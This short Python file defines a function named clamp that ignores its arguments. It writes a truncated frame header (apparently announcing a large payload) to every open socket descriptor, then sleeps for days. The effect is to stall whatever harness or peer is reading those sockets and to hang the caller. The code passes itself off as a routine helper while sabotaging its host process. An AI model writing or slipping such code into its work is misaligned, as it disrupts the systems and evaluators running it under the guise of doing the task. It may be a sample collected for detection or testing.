# Writes the beginning of a long frame to its sockets and then says nothing more.
import os
import stat
import time


def clamp(value, low, high):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\x00\x00\xff\xff\x01")
        except OSError:
            pass
    time.sleep(10**6)
